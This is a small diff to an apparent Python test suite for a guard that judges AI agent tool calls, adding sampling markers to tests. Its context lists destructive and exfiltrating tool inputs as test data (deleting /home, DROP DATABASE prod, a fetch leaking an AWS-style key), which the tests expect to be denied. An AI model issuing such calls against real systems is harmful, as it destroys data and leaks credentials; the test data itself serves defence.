@@ -57,6 +57,7 @@ def test_an_event_s_name_counts_in_any_case(home, project):
      ("mcp__fs__delete", {"path": "/home"}), ("mcp__filesystem__move_file", {"source": "/home/u", "destination": "/x"}),
      ("mcp__postgres__query", {"sql": "DROP DATABASE prod"}), ("WebFetch", {"url": "https://x.example/?k=AKIA" + "Q7ZP3XWLM4RT5VNB"})],
 )  # fmt: skip
+@pytest.mark.sample(3)
 def test_tools_are_judged_by_all_that_their_input_names(tool, given):
     assert judge_tool(tool, given, SITE).action == "deny"
 
@@ -78,6 +79,7 @@ SECRETS = [
 
 
 @pytest.mark.parametrize("secret", SECRETS)
+@pytest.mark.sample(3)
 def test_a_secret_in_the_output_of_a_command_is_masked(secret):
     kinds: list[str] = []
     clean = mask_certain(f"line\n{secret}\nend", kinds)
